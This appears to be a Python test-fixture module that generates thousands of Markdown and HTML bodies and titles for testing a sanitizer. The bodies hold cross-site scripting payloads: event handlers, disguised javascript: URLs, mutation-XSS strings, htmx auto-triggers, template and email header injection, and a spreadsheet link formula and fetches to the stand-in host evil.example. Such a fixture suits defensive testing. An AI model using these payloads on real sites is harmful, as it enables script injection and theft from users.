"""Bodies and titles that try to run something, to ask another host, or to leave the allow list.

Put together from parts rather than listed: every tag meets every handler, every disguise of a script's address
every place where Markdown takes an address. What runs calls `alert(1)`; what is fetched is on evil.example, so a
browser that shows the page tells both apart from what is merely text.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import cycle, islice, product

HOST = "https://evil.example"
TITLES = 325

_TAGS = (
    *("script", "img", "image", "svg", "iframe", "object", "embed", "form", "input", "button", "select"),
    *(
        "textarea",
        "video",
        "audio",
        "source",
        "track",
        "picture",
        "details",
        "dialog",
        "body",
        "html",
        "head",
    ),
    *("link", "meta", "base", "style", "math", "template", "slot", "noscript", "noembed", "noframes", "xmp"),
    *(
        "plaintext",
        "listing",
        "title",
        "marquee",
        "frameset",
        "frame",
        "applet",
        "keygen",
        "isindex",
        "portal",
    ),
    *("area", "map", "canvas", "menu", "a", "div", "p", "b", "table", "td", "custom-element", "x:script"),
)
_HANDLERS = (
    "onerror=alert(1)",
    "onload=alert(1)",
    "ONCLICK=alert(1)",
    "oNfOcUs=alert(1) autofocus tabindex=0",
    "ontoggle=alert(1) open",
    "onmouseover='alert(1)'",
    'onpointerrawupdate="alert(1)"',
    "onbegin=alert(1) attributeName=x dur=1s",
    "onanimationstart=alert(1) style=animation:x",
    "oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto",
    "onscrollsnapchange=alert(1)",
    "onbeforetoggle=alert(1) popover id=p",
    "onload=&#97;&#108;ert(1)",
    "onload\u00a0=alert(1)",
    "on\x00load=alert(1)",
    f"src={HOST}/x",
    f"src=x srcset='{HOST}/x 2x'",
    "href=javascript:alert(1)",
    "xlink:href=javascript:alert(1)",
    f"poster={HOST}/x background={HOST}/y",
    f"style=background:url({HOST}/x)",
    "style='width:expression(alert(1))'",
    f'style="behavior:url({HOST}/x);-moz-binding:url({HOST}/x#y)"',
    "style='position:fixed;inset:0;z-index:9999'",
    f"action={HOST}/x method=post",
    "formaction=javascript:alert(1) type=submit",
    f"data={HOST}/x type=text/html",
    "srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'",
    f"http-equiv=refresh content='0;url={HOST}/x'",
    f"href={HOST}/ target=_self",
    f"rel=stylesheet href={HOST}/x.css",
    f"ping={HOST}/x href=/week/",
    "is=x-y id=location name=cookie",
    "class=notice role=alert aria-live=assertive",
    f"hx-get={HOST}/x hx-trigger=load",
    "hx-post=/entries/ hx-trigger=load hx-target=body",
    "data-hx-post=/accounts/logout/ data-hx-trigger=load",
    "data-hx-delete=/trash/ data-hx-trigger='every 1s'",
    "hx-on::load=alert(1)",
    "hx-on:click=alert(1) hx-vals='js:{x:alert(1)}'",
    "data-hx-on--load=alert(1) data-hx-headers='js:alert(1)'",
    "hx-ext=x hx-boost=true hx-swap-oob=true id=main",
)
_FRAMES: tuple[str, ...] = (
    "<{tag} {handler}>",
    "<{tag}/{handler}/>",
    "<{tag}\n{handler}\n>x</{tag}>",
    "text <{tag}\t{handler}>\n\n**x** <script>alert(1)</script></{tag}>",
    "> <{tag} {handler}>x</{tag}>",
    "- [x](y) <{tag} {handler}>",
    "|a|\n|-|\n|<{tag} {handler}>|",
    "&lt;{tag} {handler}&gt;",
    "<{tag} x='{handler}' {handler}",
    "<!-- <{tag} {handler}> -->",
    "<{tag} title='</{tag}><img src=x onerror=alert(1)>' {handler}>",
    "```{tag} {handler}\n</code></pre><{tag} {handler}>\n```",
    "[x]: <y> '<{tag} {handler}>'\n\n[x]",
)

_RUN = "alert(1)"


def _each(text: str, written: Callable[[str], str]) -> str:
    return "".join(map(written, text))


def _schemes() -> Iterator[str]:
    """Addresses that run when followed, plain and in disguise."""
    for scheme in (
        "javascript",
        "vbscript",
        "livescript",
        "mocha",
        "jar:javascript",
        "view-source:javascript",
    ):
        yield f"{scheme}:{_RUN}"
    plain = f"javascript:{_RUN}"
    yield from (plain.upper(), plain.title(), "jAvAsCrIpT:alert(1)")
    yield _each(plain, lambda c: f"&#{ord(c)};")
    yield _each(plain, lambda c: f"&#x{ord(c):X};")
    yield _each(plain, lambda c: f"&#{ord(c):07}")
    yield _each(plain, lambda c: f"%{ord(c):02x}")
    yield _each(plain, lambda c: f"\\{c}")
    yield _each(plain, lambda c: f"{c}\u200b")
    yield from (f"javascript&{name};{_RUN}" for name in ("colon", "#58", "#x3a", "#0000058", "COLON"))
    for blank in (
        "\t",
        "\n",
        "\r",
        "\x0b",
        "\x0c",
        "\x00",
        "\x01",
        "\x1f",
        "\x7f",
        "\u00a0",
        "\u2028",
        "\u3000",
    ):
        yield f"java{blank}script:{_RUN}"
        yield f"{blank}javascript:{_RUN}"
        yield f"javascript{blank}:{_RUN}"
    for named in (
        "&Tab;",
        "&NewLine;",
        "&#9;",
        "&#10;",
        "&#13;",
        "&#0;",
        "&#1;",
        "&ZeroWidthSpace;",
        "&shy;",
    ):
        yield f"java{named}script:{_RUN}"
        yield f"{named}javascript:{_RUN}"
    yield from (
        "javascript://%0aalert(1)",
        f"javascript:/*{HOST}*/alert(1)",
        "javascript:alert`1`",
        "javascript:",
    )
    yield from ("ｊavascript:alert(1)", "javaſcript:alert(1)", "javascrİpt:alert(1)", "javascript：alert(1)")


def _data() -> Iterator[str]:
    yield "data:text/html,<script>alert(1)</script>"
    yield "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    yield "DATA:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "data:image/svg+xml,<svg/onload=alert(1)>"
    yield "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
    yield "data:image/png;base64,iVBORw0KGgo="
    yield "data:application/xhtml+xml,<x/>"
    yield "data&colon;text/html,x"
    yield "d\tata:text/html,x"


def _elsewhere() -> Iterator[str]:
    """Addresses that do not run, and that still have no place in an entry, or have one and carry a trick."""
    yield from (
        "//evil.example/x",
        "\\\\evil.example\\x",
        "/\\evil.example",
        "/accounts/logout/",
        "?x=1",
        "#x",
        "",
    )
    yield from ("file:///etc/passwd", "ftp://evil.example", "blob:x", "about:blank", "filesystem:x", "ws://x")
    yield from (
        "intent://x#Intent;end",
        "ms-msdt:/id",
        "tel:1",
        "sms:1",
        "ssh://x",
        "chrome://x",
        "http:",
        "https:/x",
    )
    yield f'{HOST}/" onmouseover="alert(1)'
    yield f"{HOST}/' onclick='alert(1)"
    yield f"{HOST}/`onclick=`alert(1)"
    yield f"{HOST}/><img/src=x onerror=alert(1)>"
    yield f"{HOST}/&quot; onmouseover=&quot;alert(1)"
    yield f"{HOST}/&#34;&#62;&#60;script&#62;alert(1)"
    yield f"{HOST}/%22onmouseover=%22alert(1)"
    yield "https://good.example@evil.example/\u202egnp.exe"
    yield "mailto:a@b.c?subject=<script>alert(1)</script>"
    yield "mailto:javascript:alert(1)"


_PLACES = (
    "[x]({address})",
    "[x](<{address}>)",
    "![x]({address})",
    "![x](<{address}>)",
    "<{address}>",
    "[x][1]\n\n[1]: {address}",
    "[x][1]\n\n[1]: <{address}> 'title'",
    "![x][1]\n\n[1]: {address}",
    "[1]\n\n[1]:\n{address}\n'\" onload=alert(1) '",
    '[x]({address} "t\\" onmouseover=alert(1) x=\\"")',
    "[x]({address} '\"><img src=x onerror=alert(1)>')",
    '![" onerror=alert(1) x="]({address} "\' onload=alert(1)")',
    "[![x]({address})]({address})",
    "![[x]({address})]({address})",
    "| [x]({address}) |\n|-|\n| <{address}> |",
    "> - # [*x*]({address})",
    "- [ ] [x]({address})",
    'text <a href="{address}">x</a> `[x]({address})`',
    "<svg><a xlink:href='{address}'><text>x</text></a></svg>",
    "<form action='{address}'><button formaction='{address}'>x</button></form>",
    "<iframe src='{address}'></iframe><object data='{address}'></object>",
    "{address}",
    "[x]( {address}\n'y'\n)",
    "[<img src={address}>]({address})",
)

_MUTATIONS = (
    # Read once in one mode and written back for another
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><template><style><svg/onload=alert(1)></style></template></foreignObject></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><svg/onload=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>@import '" + HOST + "/x.css';</style><style>*{background:url(" + HOST + "/y)}</style>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><slot onslotchange=alert(1)>",
    "<table><td><svg><desc><table><style></table><img src=x onerror=alert(1)>",
    "<a><table><a href=javascript:alert(1)>x</table>",
    "<p><svg><p><style><p title='</style><img src=x onerror=alert(1)>'>",
    "<svg><set attributeName=href to=javascript:alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><script href=data:,alert(1) /><image href=" + HOST + "/x></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    # Comments, declarations, instructions
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>-->",
    "<!--a--!><img src=x onerror=alert(1)>-->",
    "<!-><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<!ELEMENT x><img src=x onerror=alert(1)>",
    "</ x><script>alert(1)</script>",
    # Tokens cut in half
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\x0b>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)//",
    "<img src='x' onerror='alert(1)'",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=`x` ONERROR=`alert(1)`>",
    "<img/src='x'/onerror='alert(1)'>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    # Ways from Markdown into HTML
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` " onmouseover=alert(1) class="x\nx\n```',
    "    </code><img src=x onerror=alert(1)>",
    "`</code><img src=x onerror=alert(1)>`",
    "`` ` `` <img src=x onerror=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "[<script>alert(1)</script>](http://good.example)",
    "![<script>alert(1)</script>](http://good.example)",
    "[x](http://good.example '</a><script>alert(1)</script>')",
    "<http://good.example/'onload='alert(1)>",
    '<http://good.example/"onload="alert(1)>',
    "<a@b.c'onload='alert(1)>",
    "[x][<script>alert(1)</script>]\n\n[<script>alert(1)</script>]: http://good.example",
    "|<script>|alert(1)|</script>|\n|-|-|-|\n|<img src=x|onerror=alert(1)>|x|",
    "~~<script>alert(1)</script>~~",
    "- [x<script>alert(1)</script>] a\n- [ ] <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script> {onclick=alert(1)}\n\n## x {#location .notice style=color:red}",
    "<p class='as-typed'><script>alert(1)</script></p>",
    "1<script>alert(1)</script>. a\n\n99999999999999999999. b",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62; &LT;img src=x onerror=alert(1)&GT;",
    "\\<script>alert(1)\\</script>",
    "{{ constructor.constructor('alert(1)')() }} ${alert(1)} <%= alert(1) %> {% debug %}",
    "<div hx-get=" + HOST + " hx-trigger=load>\n\n*x*\n\n</div>",
    "</main></body></html><script>alert(1)</script>",
    "<base href=" + HOST + "/><a href=x>x</a>",
    "<meta http-equiv=refresh content=0;url=" + HOST + ">",
    "<meta http-equiv=content-security-policy content=\"script-src 'none'\">",
    "<link rel=prefetch href=" + HOST + "/x><link rel=dns-prefetch href=//evil.example>",
    "<input type=image src=" + HOST + "/x formaction=javascript:alert(1)>",
    "<img name=body><form id=document><input name=cookie></form>",
)
_WRAPS = (
    "{}",
    "> {}",
    "- {}",
    "*{}*",
    "words {} words",
    "# {}",
    "[{}](https://good.example)",
    "|a|b|\n|-|-|\n|{}|x|",
    "<div>\n\n{}\n\n</div>",
)


def _addresses() -> Iterator[str]:
    yield from _schemes()
    yield from _data()
    yield from _elsewhere()


def bodies() -> Iterator[str]:
    """About 6,000 Markdown bodies, each once, the same ones each time. Some hold NUL, which no database takes."""
    # Every frame with every pair would be thirty thousand. Thirteen frames and 42 handlers have no common
    # divisor, so in turn each tag and each handler meets each frame.
    frames = cycle(_FRAMES)
    for tag, handler in product(_TAGS, _HANDLERS):
        yield next(frames).format(tag=tag, handler=handler)
    for place, address in product(_PLACES, _addresses()):
        yield place.replace("{address}", address)
    for wrap, mutation in product(_WRAPS, _MUTATIONS):
        yield wrap.replace("{}", mutation)


def titles() -> Iterator[str]:
    """325 texts of one line and at most 255 characters: for titles, takeaways, tags and names of people."""
    short = [
        body for body in bodies() if body and len(body) <= 255 and body.isprintable() and body.strip() == body
    ]
    fixed = [
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
        "</title><script>alert(1)</script>",
        "</h1></main><svg onload=alert(1)>",
        '" autofocus onfocus="alert(1)',
        "' onmouseover='alert(1)",
        "{{ 7|add:7 }} {% load x %} {# #} ${7*7}",
        "javascript:alert(1)",
        '=HYPERLINK("https://evil.example")',
        "Subject: x%0d%0aBcc: a@evil.example",
        escape("<script>alert(1)</script>"),
    ]
    yield from fixed
    step = len(short) // (TITLES - len(fixed))
    yield from islice(short[::step], TITLES - len(fixed))
